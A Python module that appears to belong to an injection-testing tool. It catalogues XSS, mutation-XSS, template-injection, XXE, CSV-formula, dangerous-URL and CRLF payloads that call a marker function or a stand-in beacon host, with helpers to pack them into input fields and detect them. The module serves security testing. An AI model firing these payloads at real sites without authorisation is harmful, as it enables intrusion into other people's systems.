"""The payloads. Each calls home where it is not taken for text, in one way or another.

`ran(§)` is a function that the watching browser knows, `//beacon.example/§` an address that it
asks nobody for, `x-ran` an attribute that only markup can have, and "mo2mo" what a template makes;
§ stands for the number of the payload.
"""

from dataclasses import dataclass

BEACON = "beacon.example"
MARKS = ("ran(", BEACON, "x-ran", "mo{", "mo<", "mo$", "mo#")

_LINES = {
    "html": r"""
        <script>ran(§)</script>
        "><script>ran(§)</script>
        '><img src=x onerror=ran(§)>
        </title><script>ran(§)</script>
        </textarea><script>ran(§)</script>
        </script><script>ran(§)</script>
        --><script>ran(§)</script>
        </style><script>ran(§)</script>
        </option></select><img src=x onerror=ran(§)>
        <b x-ran>§</b>
        <svg onload=ran(§)>
        <svg><script>ran(§)</script></svg>
        <svg><a xlink:href="javascript:ran(§)"><text>x</text></a></svg>
        <math><a href="javascript:ran(§)">x</a></math>
        <iframe srcdoc="<script>ran(§)</script>"></iframe>
        <iframe src="javascript:ran(§)"></iframe>
        <iframe src=//beacon.example/§></iframe>
        <img src=//beacon.example/§>
        <style>@import '//beacon.example/§';</style>
        <link rel=stylesheet href=//beacon.example/§>
        <meta http-equiv=refresh content="0;url=//beacon.example/§">
        <base href=//beacon.example/§/>
        <object data=//beacon.example/§></object>
        <embed src=//beacon.example/§>
        <form action=//beacon.example/§><button autofocus onfocus=ran(§)>x</button></form>
        <details open ontoggle=ran(§)>
        <video src=x onerror=ran(§)></video>
        <p style="background:url(//beacon.example/§)">x</p>
        <a href=javascript:ran(§) x-ran>x</a>
        <math><mtext><table><mglyph><style><!--</style><p title="--&gt;<img onerror=ran(§) src=x>">
        <noscript><p title="</noscript><img src=x onerror=ran(§)>"></noscript>
        <template><b x-ran></b></template><scr<script>ipt>ran(§)</script>
    """,
    "attribute": r"""
        " autofocus onfocus=ran(§) x-ran="
        ' autofocus onfocus=ran(§) x-ran='
        x autofocus onfocus=ran(§) x-ran
        " style="background:url(//beacon.example/§)
    """,
    "template": r"""
        mo{{ 1|add:1 }}mo§
        mo{% if 1 %}2{% endif %}mo§
    """,
    "xml": r"""
        ]]><script xmlns="http://www.w3.org/1999/xhtml">ran(§)</script><![CDATA[
        <!DOCTYPE x [<!ENTITY e SYSTEM "//beacon.example/§">]>&e;
        <?xml-stylesheet href="//beacon.example/§"?>
        </description></item></channel><x-ran/>
        &ran(§);&#0;&#x1f;
    """,
    "other": r"""
        mo${1+1}mo <%= 1+1 %> #{1+1} ran(§)
        "}]}</script><script>ran(§)</script>
        \u003cscript\u003eran(§)\u003c/script\u003e
        =HYPERLINK("//beacon.example/§")
        ;}*{background:url(//beacon.example/§)}
    """,
}
# What would not survive in a line above.
_RAW = {
    "address": (
        "javascript:ran(§)",
        "JaVa\tscript:ran(§)",
        "\x01javascript:ran(§)",
        "javascript://beacon.example/%0Aran(§)",
        "data:text/html,<script>ran(§)</script>",
        "vbscript:ran(§)",
        "//beacon.example/§",
        "https://beacon.example/§",
    ),
    "other": (
        "ran(§)\r\nRan: §",
        "ran(§)\r\n\r\n<script>ran(§)</script>",
        "ran(§)\u2028\u2029\u0085</script><script>ran(§)</script>",
        "\u202eran(§)\u2066\u200f<script>ran(§)</script>",
        "ran(§)\x0b\x0c\x1f\x7f\ufffe\uffff",
        "ran(§)" + "dài" * 60,
    ),
}

_TAG = "'\"><b x-ran>"


@dataclass(frozen=True)
class Payload:
    """Text that does something in some `context`: in HTML, in an attribute, as an address…"""

    number: int
    context: str
    text: str


def _read() -> list[Payload]:
    lines = [(c, line.strip()) for c, text in _LINES.items() for line in text.strip().split("\n")]
    lines += [(context, text) for context, texts in _RAW.items() for text in texts]
    return [Payload(n, c, text.replace("§", str(n))) for n, (c, text) in enumerate(lines, 1)]


PAYLOADS = _read()


def chunks(limit: int) -> list[str]:
    """All payloads that fit, in texts of at most `limit` signs, each as full as can be.

    Each begins with an address, which does something nowhere else, and with a tag: whatever place
    a text comes to, there is something in it that would show.
    """
    addresses = [p.text for p in PAYLOADS if p.context == "address"]
    begins = [f"{address} {_TAG}" for address in addresses if len(address) + len(_TAG) < limit]
    texts = [begins[0]]
    for payload in PAYLOADS:
        if payload.context == "address" or len(payload.text) + len(begins[0]) >= limit:
            continue
        if len(texts[-1]) + len(payload.text) >= limit:
            begin = begins[len(texts) % len(begins)]
            texts.append(begin if len(begin) + len(payload.text) < limit else begins[0])
        texts[-1] += f" {payload.text}"
    missing = begins[len(texts) :]
    return texts + missing


def pick(limit: int, number: int) -> str:
    """One of those texts; from the last it goes on with the first."""
    texts = chunks(limit)
    return texts[number % len(texts)]


def lines(text: str) -> str:
    """`text` as a field of one line can be typed: without breaks."""
    return text.replace("\r", " ").replace("\n", " ")


def is_hostile(text: str) -> bool:
    """Whether a payload is in `text`, or what is left of one."""
    return any(mark in text for mark in MARKS)
